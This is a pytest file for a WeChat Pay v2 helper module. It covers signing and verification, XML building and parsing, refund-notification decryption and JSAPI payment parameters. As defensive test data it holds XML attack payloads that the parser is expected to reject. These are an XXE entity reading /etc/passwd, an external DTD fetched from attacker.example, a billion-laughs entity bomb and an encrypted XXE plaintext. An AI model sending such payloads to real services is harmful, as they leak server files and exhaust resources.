"""WeChat Pay v2 pure functions: signatures, XML, refund-notify crypto."""

from __future__ import annotations

import base64
import hashlib
import hmac

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from wechatpy.crypto import WeChatRefundCrypto
from wechatpy.pay.utils import calculate_signature, calculate_signature_hmac

from wechat import pay

# The official 签名算法 example (pay.weixin.qq.com), also in the shared
# wechat_public_vectors.json under "pay_v2_signature".
VECTOR_PARAMS = {
    "appid": "wxd930ea5d5a258f4f",
    "body": "test",
    "device_info": "1000",
    "mch_id": "10000100",
    "nonce_str": "ibuaiVcKdpRxkhJA",
}
VECTOR_KEY = "192006250b4c09247ec02edce69f6a2d"
VECTOR_MD5 = "9A0A8659F005D6984697E2CA0A9CF3B7"
VECTOR_HMAC = "6A9AE1657590FD6257D693A078E1C3E4BB6BA4DC30B23E0EE2496E54170DACD6"

KEY = "192006250b4c09247ec02edce69f6a2d"


# sign / verify -------------------------------------------------------------------------------


def test_sign_matches_the_official_md5_vector() -> None:
    assert pay.sign(VECTOR_PARAMS, VECTOR_KEY) == VECTOR_MD5
    assert pay.sign(VECTOR_PARAMS, VECTOR_KEY, "MD5") == VECTOR_MD5


def test_sign_matches_the_official_hmac_sha256_vector() -> None:
    assert pay.sign(VECTOR_PARAMS, VECTOR_KEY, "HMAC-SHA256") == VECTOR_HMAC


def test_sign_skips_sign_and_empty_values_and_ignores_key_order() -> None:
    noisy = {
        "sign": "WHATEVER",
        "zzz": "",
        "attach": None,
        **dict(reversed(list(VECTOR_PARAMS.items()))),
    }
    assert pay.sign(noisy, VECTOR_KEY) == VECTOR_MD5


def test_sign_keeps_int_zero_and_stringifies_values() -> None:
    with_zero = pay.sign({"a": 0, "b": 12}, KEY)
    assert with_zero == pay.sign({"a": "0", "b": "12"}, KEY)
    assert with_zero != pay.sign({"b": 12}, KEY)
    # wechatpy agrees whenever no value is falsy.
    assert pay.sign({"b": 12}, KEY) == calculate_signature({"b": 12}, KEY)
    assert pay.sign({"b": 12}, KEY, "HMAC-SHA256") == calculate_signature_hmac({"b": 12}, KEY)


def test_sign_refuses_an_unknown_sign_type() -> None:
    with pytest.raises(ValueError, match="sign_type"):
        pay.sign(VECTOR_PARAMS, VECTOR_KEY, "SHA1")


def test_verify_uses_the_named_sign_type() -> None:
    params = {**VECTOR_PARAMS, "sign_type": "HMAC-SHA256"}
    params["sign"] = pay.sign(params, KEY, "HMAC-SHA256")
    assert pay.verify(params, KEY) is True
    # An MD5 sign over the same fields does not pass when sign_type says HMAC-SHA256.
    params["sign"] = pay.sign(params, KEY, "MD5")
    assert pay.verify(params, KEY) is False


def test_verify_accepts_hmac_without_sign_type() -> None:
    params = {**VECTOR_PARAMS, "sign": VECTOR_HMAC}
    assert pay.verify(params, VECTOR_KEY) is True


def test_verify_accepts_md5_without_sign_type() -> None:
    assert pay.verify({**VECTOR_PARAMS, "sign": VECTOR_MD5}, VECTOR_KEY) is True


def test_verify_refuses_a_tampered_field() -> None:
    params = {**VECTOR_PARAMS, "sign": VECTOR_MD5}
    assert pay.verify({**params, "body": "test2"}, VECTOR_KEY) is False
    assert pay.verify({**params, "total_fee": "1"}, VECTOR_KEY) is False
    assert pay.verify(params, "0" * 32) is False


def test_verify_refuses_a_missing_or_empty_sign() -> None:
    assert pay.verify(dict(VECTOR_PARAMS), VECTOR_KEY) is False
    assert pay.verify({**VECTOR_PARAMS, "sign": ""}, VECTOR_KEY) is False


def test_verify_refuses_an_unknown_sign_type() -> None:
    params = {**VECTOR_PARAMS, "sign_type": "SHA1"}
    params["sign"] = pay.sign(params, KEY, "MD5")
    assert pay.verify(params, KEY) is False


def test_verify_refuses_a_lowercase_sign() -> None:
    assert pay.verify({**VECTOR_PARAMS, "sign": VECTOR_MD5.lower()}, VECTOR_KEY) is False


# to_xml / parse_xml --------------------------------------------------------------------------


def test_to_xml_writes_cdata_and_plain_ints() -> None:
    body = pay.to_xml({"body": "团购 <A&B>", "total_fee": 990, "attach": None})
    assert body == (
        "<xml><body><![CDATA[团购 <A&B>]]></body><total_fee>990</total_fee></xml>".encode()
    )


def test_to_xml_round_trips_through_parse_xml() -> None:
    fields = {"a": "x]]>y", "b": 0, "c": "", "d": "中文"}
    assert pay.parse_xml(pay.to_xml(fields)) == {"a": "x]]>y", "b": "0", "c": "", "d": "中文"}


@pytest.mark.parametrize("tag", ["a><b", "", "1a", "a-b", "a b", "a\n", "é", "aé", "x\u00b2"])
def test_to_xml_refuses_a_bad_tag(tag: str) -> None:
    # ASCII names only, [A-Za-z_][A-Za-z0-9_]*: a non-ASCII identifier is refused too.
    with pytest.raises(ValueError, match="tag"):
        pay.to_xml({tag: "x"})


def test_to_xml_takes_every_ascii_name() -> None:
    assert pay.to_xml({"_a": 1, "A_b9": 2, "class": 3}) == (
        b"<xml><_a>1</_a><A_b9>2</A_b9><class>3</class></xml>"
    )


def test_success_and_fail_replies() -> None:
    assert pay.SUCCESS_REPLY == (
        b"<xml><return_code><![CDATA[SUCCESS]]></return_code>"
        b"<return_msg><![CDATA[OK]]></return_msg></xml>"
    )
    assert pay.parse_xml(pay.fail_reply("sign mismatch")) == {
        "return_code": "FAIL",
        "return_msg": "sign mismatch",
    }


def test_parse_xml_reads_a_flat_document() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n'
        b"<return_code><![CDATA[SUCCESS]]></return_code>\n"
        b"<total_fee>1</total_fee>\n<empty></empty>\n</xml>"
    )
    assert pay.parse_xml(body) == {"return_code": "SUCCESS", "total_fee": "1", "empty": ""}


def test_parse_xml_reads_text_around_comments_and_namespaced_tags_as_before() -> None:
    body = b'<xml xmlns:p="urn:p"><a>1<!-- c --><![CDATA[2]]>&amp;3</a><p:b>x</p:b><c/></xml>'
    assert pay.parse_xml(body) == {"a": "12&3", "{urn:p}b": "x", "c": ""}


XXE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<xml><return_code>&xxe;</return_code></xml>"
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">\n'
    b"<xml><return_code>SUCCESS</return_code></xml>"
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n<xml><a>&lol9;</a></xml>"
)
INTERNAL_DTD = b"<!DOCTYPE xml []><xml><a>1</a></xml>"
DTD_AFTER_A_COMMENT = b"<!-- hello --><?pi x?><!DOCTYPE xml []><xml><a>1</a></xml>"


@pytest.mark.parametrize(
    "body",
    [XXE, EXTERNAL_DTD, BILLION_LAUGHS, INTERNAL_DTD, DTD_AFTER_A_COMMENT],
    ids=["xxe", "external-dtd", "billion-laughs", "dtd", "dtd-after-a-comment"],
)
def test_parse_xml_refuses_dtds_and_entities(body: bytes) -> None:
    with pytest.raises(pay.PayProtocolError, match="forbidden"):
        pay.parse_xml(body)


def test_parse_xml_refuses_an_oversized_body() -> None:
    body = b"<xml><a>" + b"x" * (64 * 1024) + b"</a></xml>"
    with pytest.raises(pay.PayProtocolError, match="exceeds"):
        pay.parse_xml(body)
    with pytest.raises(pay.PayProtocolError, match="exceeds"):
        pay.parse_xml(b"<xml><a>12345</a></xml>", max_bytes=10)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "malformed"),
        (b"not xml", "malformed"),
        (b"<xml><a>1</a>", "malformed"),
        (b"<xml><a>1</b></xml>", "malformed"),
        (b"\xff\xfe<xml/>", "malformed"),
        (b"<xml></xml>", "no children"),
        (b"<xml>text only</xml>", "no children"),
        (b"<xml><a><b>1</b></a></xml>", "deeper"),
        (b"<xml><a>1</a><a>2</a></xml>", "twice"),
        (b"<xml><a>1</a><b/><a/></xml>", "twice"),
        (b"<xml><a>&undeclared;</a></xml>", "malformed"),
    ],
)
def test_parse_xml_refuses_malformed_documents(body: bytes, reason: str) -> None:
    with pytest.raises(pay.PayProtocolError, match=reason):
        pay.parse_xml(body)


# refund req_info -----------------------------------------------------------------------------

REFUND_FIELDS = {
    "out_refund_no": "R20260101000001",
    "out_trade_no": "T20260101000001",
    "refund_id": "50000000382019052709732678859",
    "refund_fee": 150,
    "total_fee": 990,
    "refund_status": "SUCCESS",
    "success_time": "2026-01-01 12:00:00",
    "refund_recv_accout": "支付用户零钱",
}


def test_refund_info_round_trip() -> None:
    req_info = pay.encrypt_refund_info(REFUND_FIELDS, KEY)
    assert pay.decrypt_refund_info(req_info, KEY) == {k: str(v) for k, v in REFUND_FIELDS.items()}


def test_refund_info_matches_wechatpy() -> None:
    # wechatpy decrypts what we encrypt (AES-256-ECB keyed by the hex MD5 of the API key).
    notify = pay.to_xml(
        {
            "return_code": "SUCCESS",
            "appid": "wx1",
            "mch_id": "1",
            "req_info": pay.encrypt_refund_info(REFUND_FIELDS, KEY),
        }
    ).decode()
    decrypted = WeChatRefundCrypto(KEY).decrypt_message(notify, "wx1", "1")
    assert dict(decrypted) == {k: str(v) for k, v in REFUND_FIELDS.items()}


def test_refund_info_refuses_the_wrong_key() -> None:
    req_info = pay.encrypt_refund_info(REFUND_FIELDS, KEY)
    with pytest.raises(pay.PayProtocolError):
        pay.decrypt_refund_info(req_info, "another-key-another-key-another-")


@pytest.mark.parametrize(
    "req_info",
    [
        "",
        "not base64 at all!",
        base64.b64encode(b"short").decode(),
        base64.b64encode(b"0123456789abcdef" * 4).decode(),
    ],
    ids=["empty", "not-base64", "not-blocks", "garbage-blocks"],
)
def test_refund_info_refuses_garbage(req_info: str) -> None:
    with pytest.raises(pay.PayProtocolError):
        pay.decrypt_refund_info(req_info, KEY)


def test_refund_info_refuses_a_hostile_plaintext() -> None:
    key = hashlib.md5(KEY.encode()).hexdigest().encode()
    padder = padding.PKCS7(128).padder()
    padded = padder.update(XXE) + padder.finalize()
    encryptor = Cipher(algorithms.AES(key), modes.ECB()).encryptor()
    req_info = base64.b64encode(encryptor.update(padded) + encryptor.finalize()).decode()
    with pytest.raises(pay.PayProtocolError, match="forbidden"):
        pay.decrypt_refund_info(req_info, KEY)


# jsapi_params / nonce ------------------------------------------------------------------------


@pytest.mark.parametrize("sign_type", ["MD5", "HMAC-SHA256"])
def test_jsapi_params_are_signed_for_request_payment(sign_type: str) -> None:
    params = pay.jsapi_params(
        appid="wx1234567890test",
        prepay_id="wx201410272009395522657a690389285100",
        api_key=KEY,
        sign_type=sign_type,
        nonce_str="5K8264ILTKCH16CQ2502SI8ZNMTM67VS",
        timestamp=1414561699,
    )
    unsigned = {
        "appId": "wx1234567890test",
        "timeStamp": "1414561699",
        "nonceStr": "5K8264ILTKCH16CQ2502SI8ZNMTM67VS",
        "package": "prepay_id=wx201410272009395522657a690389285100",
        "signType": sign_type,
    }
    assert {k: v for k, v in params.items() if k != "paySign"} == unsigned
    message = (
        "appId=wx1234567890test&nonceStr=5K8264ILTKCH16CQ2502SI8ZNMTM67VS"
        "&package=prepay_id=wx201410272009395522657a690389285100"
        f"&signType={sign_type}&timeStamp=1414561699&key={KEY}"
    ).encode()
    if sign_type == "MD5":
        expected = hashlib.md5(message).hexdigest().upper()
    else:
        expected = hmac.new(KEY.encode(), message, hashlib.sha256).hexdigest().upper()
    assert params["paySign"] == expected


def test_nonce_is_random_alphanumeric() -> None:
    values = {pay.nonce() for _ in range(50)}
    assert len(values) == 50
    assert all(len(v) == 32 and v.isalnum() and v.isascii() for v in values)
    assert len(pay.nonce(16)) == 16
